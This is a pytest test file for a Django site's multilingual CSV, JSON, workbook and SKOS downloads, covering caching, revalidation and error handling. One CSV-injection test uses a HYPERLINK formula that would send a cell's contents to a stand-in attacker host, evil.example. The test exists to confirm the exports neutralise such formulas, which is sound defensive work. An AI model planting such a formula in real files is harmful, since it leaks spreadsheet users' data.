"""The Downloads page's files: CSV, JSON, the official workbook and SKOS in every language and
all five, with the content version in their names, made once per content version and served
from the cache, revalidated with 304."""

import csv
import dataclasses
import io
import json
import sys
import types
import zipfile

import openpyxl
import pytest
from django.core.cache import cache, caches
from django.core.serializers.json import DjangoJSONEncoder
from django.urls import NoReverseMatch, reverse

from skills.framework.languages import LANGUAGE_CODES
from skills.framework.models import Skill, SkillLevel
from skills.opendata import documents, downloads
from skills.opendata.documents import Shape
from skills.page_cache.store import LOCAL_PAGES
from skills.page_cache.version import content_version
from tests.attributes import load_page_content

pytestmark = pytest.mark.django_db

SHAPES = [*LANGUAGE_CODES, "all"]
BASE = "http://testserver"
# SLMO at level 5, as fixtures/sfia.json has it.
GERMAN_LEVEL_5 = "Gewährleistet, dass die Servicebereitstellung die vereinbarten Serviceebenen"
ENGLISH_LEVEL_5 = "Ensures service delivery meets agreed service levels."


@pytest.fixture
def content(db):
    load_page_content()


def csv_rows(response):
    """The file's rows, read as a spreadsheet reads CSV: UTF-8 after the byte order mark."""
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def row_at(rows, code, level):
    """The row of skill `code` at `level`, as {heading: cell}."""
    headings, *body = rows
    level_column = next(n for n, heading in enumerate(headings) if heading in ("Level", "Ebene"))
    (row,) = [row for row in body if row[0] == code and row[level_column] == str(level)]
    return dict(zip(headings, row, strict=True))


def version_moves_on(django_capture_on_commit_callbacks, change):
    """`change()` committed, as in production: the content version moves on."""
    before = content_version()[0]
    with django_capture_on_commit_callbacks(execute=True):
        change()
    assert content_version()[0] > before


# CSV.


@pytest.mark.parametrize("language", SHAPES)
def test_the_csv_has_a_row_for_each_skill_at_each_level_it_is_defined_at(client, content, language):
    response = client.get(f"/downloads/sfia-{language}.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    headings, *body = rows
    defined = SkillLevel.objects.filter(skill__code="SLMO", defined=True).count()
    assert len(body) == defined == 6
    assert {len(row) for row in rows} == {len(headings)}
    assert [row[0] for row in body] == ["SLMO"] * 6
    level = 1 + 3 * (5 if language == "all" else 1)  # after the code, name and groupings
    assert [row[level] for row in body] == ["2", "3", "4", "5", "6", "7"]


def test_the_german_csv_carries_the_german_texts_and_the_german_page(client, content):
    rows = csv_rows(client.get("/downloads/sfia-de.csv"))

    assert rows[0] == [
        "Code",
        "Fähigkeit",
        "Kategorie",
        "Unterkategorie",
        "Ebene",
        "Leitsatz",
        "Beschreibung auf dieser Ebene",
        "Seitenadresse",
        "Auf Englisch, noch nicht übersetzt",
    ]
    row = row_at(rows, "SLMO", 5)
    german = SkillLevel.objects.get(skill__code="SLMO", level=5).description_de
    assert row["Beschreibung auf dieser Ebene"] == german
    assert row["Beschreibung auf dieser Ebene"].startswith(GERMAN_LEVEL_5)
    assert row["Fähigkeit"] == "Service-Level-Management"
    assert row["Kategorie"] == "Bereitstellung und Betrieb"
    assert row["Leitsatz"] == "Sicherstellen, beraten"
    assert row["Seitenadresse"] == "http://testserver/de/skills/slmo/5/"
    assert row["Auf Englisch, noch nicht übersetzt"] == ""


def test_a_missing_translation_is_the_english_marked_in_its_own_column(client, content):
    SkillLevel.objects.filter(skill__code="SLMO", level=5).update(description_de=None)
    Skill.objects.filter(code="SLMO").update(name_de=None)

    rows = csv_rows(client.get("/downloads/sfia-de.csv"))

    row = row_at(rows, "SLMO", 5)
    assert row["Beschreibung auf dieser Ebene"].startswith(ENGLISH_LEVEL_5)
    assert row["Fähigkeit"] == "Service level management"
    assert row["Auf Englisch, noch nicht übersetzt"] == "Fähigkeit; Beschreibung auf dieser Ebene"
    # Level 4 has its German description: only the name is in English.
    assert row_at(rows, "SLMO", 4)["Auf Englisch, noch nicht übersetzt"] == "Fähigkeit"


def test_the_arabic_csv_is_in_arabic_with_arabic_headings(client, content):
    rows = csv_rows(client.get("/downloads/sfia-ar.csv"))

    row = dict(zip(rows[0], rows[1], strict=True))
    assert "إدارة مستوى الخدمة" in row.values()
    assert rows[0][:2] == ["الرمز", "المهارة"]  # as the profile's download heads them
    assert row[rows[0][-2]] == "http://testserver/ar/skills/slmo/2/"


def test_the_csv_for_all_languages_has_a_column_for_each_text_in_each(client, content):
    SkillLevel.objects.filter(skill__code="SLMO", level=5).update(description_it=None)

    rows = csv_rows(client.get("/downloads/sfia-all.csv"))

    headings = rows[0]
    assert headings[:7] == [
        "Code",
        *(f"Skill ({code})" for code in LANGUAGE_CODES),
        "Category (en)",
    ]
    assert "In English, not yet translated" not in headings
    row = row_at(rows, "SLMO", 5)
    assert row["Description at this level (en)"].startswith(ENGLISH_LEVEL_5)
    assert row["Description at this level (de)"].startswith(GERMAN_LEVEL_5)
    assert row["Description at this level (it)"] == ""  # empty where missing, no English
    assert row["Skill (ru)"] == "Управление уровнем услуг"
    assert row["Page address"] == "http://testserver/skills/slmo/5/"  # the address for everyone


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Hier klicken")'


@pytest.mark.parametrize("language", SHAPES)
def test_every_csv_keeps_a_text_a_spreadsheet_would_run_as_text(client, content, language):
    names = {f"name_{code}": FORMULA for code in LANGUAGE_CODES}
    Skill.objects.filter(code="SLMO").update(**names)
    descriptions = {f"description_{code}": "@SUM(A1:A9)" for code in LANGUAGE_CODES}
    SkillLevel.objects.filter(skill__code="SLMO", level=5).update(**descriptions)

    rows = csv_rows(client.get(f"/downloads/sfia-{language}.csv"))

    cells = [cell for row in rows for cell in row]
    slmo_rows = [row for row in rows if row[0] == "SLMO"]
    columns = len(LANGUAGE_CODES) if language == "all" else 1
    assert cells.count("'" + FORMULA) == len(slmo_rows) * columns
    assert cells.count("'@SUM(A1:A9)") == columns
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


# JSON.


@pytest.mark.parametrize("language", SHAPES)
def test_the_json_is_the_apis_whole_framework(client, content, language):
    response = client.get(f"/downloads/sfia-{language}.json")

    assert response["Content-Type"] == "application/json"
    framework = documents.framework(Shape(language, BASE))
    assert json.loads(response.content) == json.loads(json.dumps(framework, cls=DjangoJSONEncoder))
    assert response["Content-Language"] == (
        ", ".join(LANGUAGE_CODES) if language == "all" else language
    )


def test_the_json_keeps_every_language_s_letters(client, content):
    text = client.get("/downloads/sfia-ar.json").content.decode("utf-8")

    assert "إدارة مستوى الخدمة" in text
    assert "\\u" not in text


# The official workbook.


def sheet_rows(content, sheet="Skills"):
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    try:
        return [list(row) for row in book[sheet].iter_rows(values_only=True)]
    finally:
        book.close()


def test_the_german_workbook_is_the_official_layout_in_german(client, content):
    response = client.get("/downloads/sfia-de.xlsx")

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    rows = sheet_rows(response.content)
    assert any("Service-Level-Management" in row for row in rows[1:])
    assert any("https://sfia-online.org/de/skillcode/9/SLMO" in row for row in rows[1:])


def test_the_workbooks_for_all_languages_are_five_in_a_zip(client, content):
    response = client.get("/downloads/sfia-all.zip")

    assert response["Content-Type"] == "application/zip"
    version = content_version()[0]
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        names = archive.namelist()
        assert names == [f"sfia-9-v{version}-{code}.xlsx" for code in LANGUAGE_CODES]
        russian = sheet_rows(archive.read(f"sfia-9-v{version}-ru.xlsx"))
    assert any("Управление уровнем услуг" in row for row in russian[1:])


def test_no_temporary_file_is_left_behind(client, content, tmp_path, monkeypatch):
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", None)  # read TMPDIR afresh

    assert client.get("/downloads/sfia-all.zip").status_code == 200
    assert list(tmp_path.iterdir()) == []


# SKOS: skills/opendata/skos.py's skos_turtle(base_url, language), made and served as the others.


TURTLE = "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .\n# Ü\n".encode()


def test_the_skos_file_is_the_skos_modules_turtle(client, content, monkeypatch):
    """With a stand-in for the module, whichever branch is merged first."""
    calls = []

    def skos_turtle(base_url, language):
        calls.append((base_url, language))
        return TURTLE

    monkeypatch.setitem(
        sys.modules, "skills.opendata.skos", types.SimpleNamespace(skos_turtle=skos_turtle)
    )

    response = client.get("/downloads/sfia-de.ttl")
    again = client.get("/downloads/sfia-de.ttl")

    assert response["Content-Type"] == "text/turtle; charset=utf-8"
    version = content_version()[0]
    assert response["Content-Disposition"] == f'attachment; filename="sfia-9-v{version}-de.ttl"'
    assert response.content == again.content == TURTLE
    assert calls == [(BASE, "de")]  # made once


@pytest.mark.parametrize("language", ["de", "all"])
def test_the_skos_file_is_turtle_with_the_skills_names(client, content, language):
    """Against the real module (skills/opendata/skos.py, written beside this branch)."""
    pytest.importorskip("skills.opendata.skos")
    from rdflib import Graph, Literal
    from rdflib.namespace import SKOS

    response = client.get(f"/downloads/sfia-{language}.ttl")

    assert response.status_code == 200
    graph = Graph().parse(data=response.content, format="turtle")
    labels = set(graph.objects(None, SKOS.prefLabel))
    assert Literal("Service-Level-Management", lang="de") in labels
    if language == "all":
        assert Literal("Service level management", lang="en") in labels


def test_the_other_formats_need_no_skos_module(client, content, monkeypatch):
    monkeypatch.setitem(sys.modules, "skills.opendata.skos", None)  # importing it fails

    for name in ("sfia-de.csv", "sfia-all.json", "sfia-de.xlsx", "sfia-all.zip"):
        assert client.get(f"/downloads/{name}").status_code == 200, name


# Names, headers, revalidation.


@pytest.mark.parametrize(
    ("name", "saved_as"),
    [
        ("sfia-de.csv", "sfia-9-v{}-de.csv"),
        ("sfia-all.json", "sfia-9-v{}-all.json"),
        ("sfia-ar.xlsx", "sfia-9-v{}-ar.xlsx"),
        ("sfia-all.zip", "sfia-9-v{}-all.zip"),
    ],
)
def test_each_file_is_an_attachment_named_with_the_edition_and_content_version(
    client, content, settings, name, saved_as
):
    response = client.get(f"/downloads/{name}")

    version = content_version()[0]
    assert response["Content-Disposition"] == f'attachment; filename="{saved_as.format(version)}"'
    assert response["ETag"].startswith('W/"') and response["ETag"].endswith(f'-{version}"')
    assert response["Last-Modified"].endswith(" GMT")
    assert response["Cache-Control"] == settings.SFIA_PAGE_CACHE_CONTROL
    assert int(response["Content-Length"]) == len(response.content) > 1000


def test_a_revalidation_answers_304_without_making_the_file(client, content, monkeypatch):
    etag = client.get("/downloads/sfia-de.csv")["ETag"]
    made = count_makes(monkeypatch, "csv")
    cache.clear()  # were the file read, it would have to be made again

    response = client.get("/downloads/sfia-de.csv", HTTP_IF_NONE_MATCH=etag)

    assert response.status_code == 304
    assert response.content == b""
    assert response["ETag"] == etag
    assert response["Cache-Control"] == "public, max-age=0, must-revalidate, s-maxage=60"
    assert response["Content-Language"] == "de"  # the file's, not the reader's
    assert made == []
    stale = client.get("/downloads/sfia-de.csv", HTTP_IF_NONE_MATCH='"other-1"')
    assert stale.status_code == 200


def test_head_gives_the_headers_of_a_get_and_no_body(client, content):
    full = client.get("/downloads/sfia-all.csv")

    head = client.head("/downloads/sfia-all.csv")

    assert head.status_code == 200
    assert head.content == b""
    assert head["Content-Length"] == full["Content-Length"]
    assert head["Content-Disposition"] == full["Content-Disposition"]


def test_only_reading_is_allowed(client, content):
    assert client.post("/downloads/sfia-de.csv").status_code == 405
    assert client.options("/downloads/sfia-de.csv")["Allow"] == "GET, HEAD, OPTIONS"


@pytest.mark.parametrize(
    "path",
    [
        "/downloads/sfia-xx.csv",  # no such language
        "/downloads/sfia-de.pdf",  # no such format
        "/downloads/sfia-de.zip",  # one language's workbook is an xlsx
        "/downloads/sfia-all.xlsx",  # all languages' are a zip
        "/downloads/SFIA-DE.CSV",
        "/downloads/sfia-de.csv/",
        "/downloads/sfia-9-v1-de.csv",  # the saved name is not an address
        "/de/downloads/sfia-de.csv",  # the files have no language prefix
    ],
)
def test_any_other_file_name_is_not_found(client, content, path):
    assert client.get(path).status_code == 404


def test_a_file_s_address_is_reversed_from_its_download_or_its_name():
    assert reverse("download", kwargs={"download": downloads.Download("csv", "de")}) == (
        "/downloads/sfia-de.csv"
    )
    assert reverse("download", kwargs={"download": "sfia-all.zip"}) == "/downloads/sfia-all.zip"
    with pytest.raises(NoReverseMatch):
        reverse("download", kwargs={"download": "sfia-all.xlsx"})


# Made once per content version, from the cache after that.


def count_makes(monkeypatch, name):
    """The calls that make a file of format `name`, from now on."""
    made = []
    kind = downloads.FORMATS[name]

    def make(language, base):
        made.append(language)
        return kind.make(language, base)

    monkeypatch.setitem(downloads.FORMATS, name, dataclasses.replace(kind, make=make))
    return made


def test_the_second_download_comes_from_the_cache(
    client, content, monkeypatch, django_assert_num_queries
):
    made = count_makes(monkeypatch, "json")
    first = client.get("/downloads/sfia-all.json")

    # The content version and the edition, for the file's name: none of the content.
    with django_assert_num_queries(2):
        second = client.get("/downloads/sfia-all.json")

    assert second.content == first.content
    assert made == ["all"]
    client.get("/downloads/sfia-de.json")
    assert made == ["all", "de"]  # each language is a file of its own


def test_a_content_change_makes_a_new_file_with_the_new_version_in_its_name(
    client, content, monkeypatch, django_capture_on_commit_callbacks
):
    made = count_makes(monkeypatch, "csv")
    before = client.get("/downloads/sfia-de.csv")

    def rename():
        skill = Skill.objects.get(code="SLMO")
        skill.name_de = "Dienstgütemanagement"
        skill.save()

    version_moves_on(django_capture_on_commit_callbacks, rename)
    after = client.get("/downloads/sfia-de.csv")

    version = content_version()[0]
    assert after["Content-Disposition"] == f'attachment; filename="sfia-9-v{version}-de.csv"'
    assert after["Content-Disposition"] != before["Content-Disposition"]
    assert after["ETag"] != before["ETag"]
    assert row_at(csv_rows(after), "SLMO", 5)["Fähigkeit"] == "Dienstgütemanagement"
    assert made == ["de", "de"]
    # The old version's ETag is now stale: the new file, not a 304.
    assert (
        client.get("/downloads/sfia-de.csv", HTTP_IF_NONE_MATCH=before["ETag"]).status_code == 200
    )


def test_a_host_header_neither_makes_a_file_again_nor_names_itself_in_it(
    client, content, settings, monkeypatch
):
    """50 ports in the Host header made the 1.4 MB file 50 times and kept each in the cache
    for a day (75 MB of Redis): every file is now made for the configured address only."""
    settings.ALLOWED_HOSTS = ["testserver", "127.0.0.1"]
    made = count_makes(monkeypatch, "csv")
    keys_before = len(caches["default"])

    answers = [
        client.get("/downloads/sfia-de.csv", HTTP_HOST=f"127.0.0.1:{port}")
        for port in range(8000, 8050)
    ]

    assert made == ["de"]
    assert len(caches["default"]) == keys_before + 1
    for answer in answers:
        assert row_at(csv_rows(answer), "SLMO", 5)["Seitenadresse"] == (
            "http://testserver/de/skills/slmo/5/"
        )


def test_the_configured_address_is_the_one_in_the_files(client, content, settings):
    settings.SFIA_SITE_URL = "https://sfia.example.org"

    row = row_at(csv_rows(client.get("/downloads/sfia-de.csv")), "SLMO", 5)

    assert row["Seitenadresse"] == "https://sfia.example.org/de/skills/slmo/5/"


def test_the_files_stay_out_of_the_page_cache(client, content, settings):
    settings.SFIA_PAGE_CACHE = True

    client.get("/downloads/sfia-all.zip")
    assert LOCAL_PAGES.size == 0
    client.get("/de/downloads/")  # the page itself is cached as any page
    assert LOCAL_PAGES.size > 0


# A file that can't be made.


def test_a_noncharacter_stored_before_the_policy_still_makes_the_workbooks(client, content):
    """U+FFFE reached the database before the admin refused it; XML can't carry it, so the
    xlsx (and the zip of all five) answered 500 to everyone. Excel's own escape carries it."""
    Skill.objects.filter(code="SLMO").update(name_de="Service\ufffeLevel")

    german = client.get("/downloads/sfia-de.xlsx")
    everything = client.get("/downloads/sfia-all.zip")

    assert german.status_code == everything.status_code == 200
    # Stored as Excel stores it, which Excel reads back as U+FFFE (openpyxl leaves it as is).
    assert ["SLMO", "Service_xFFFE_Level"] in [row[8:11:2] for row in sheet_rows(german.content)]


def test_a_file_that_cannot_be_made_is_a_503_in_the_readers_language_and_not_remade_per_request(
    client, content, monkeypatch, django_capture_on_commit_callbacks
):
    made = []

    def broken(language, base):
        made.append(language)
        raise ValueError("All strings must be XML compatible")

    kind = downloads.FORMATS["csv"]
    monkeypatch.setitem(downloads.FORMATS, "csv", dataclasses.replace(kind, make=broken))

    first = client.get("/downloads/sfia-de.csv", HTTP_ACCEPT_LANGUAGE="de")
    again = client.get("/downloads/sfia-de.csv", HTTP_ACCEPT_LANGUAGE="de")

    assert first.status_code == again.status_code == 503
    assert first["Cache-Control"] == "no-store"
    assert "Die Datei <bdi>sfia-de.csv</bdi> konnte aus dem jetzigen Inhalt nicht erstellt" in (
        first.text
    )
    assert "Traceback" not in first.text and "XML compatible" not in first.text
    assert made == ["de"]  # not tried again for the same content
    assert client.get("/downloads/sfia-de.json").status_code == 200  # the others are made
    version_moves_on(
        django_capture_on_commit_callbacks,
        lambda: Skill.objects.get(code="SLMO").save(),
    )
    client.get("/downloads/sfia-de.csv")
    assert made == ["de", "de"]  # tried again once the content changed
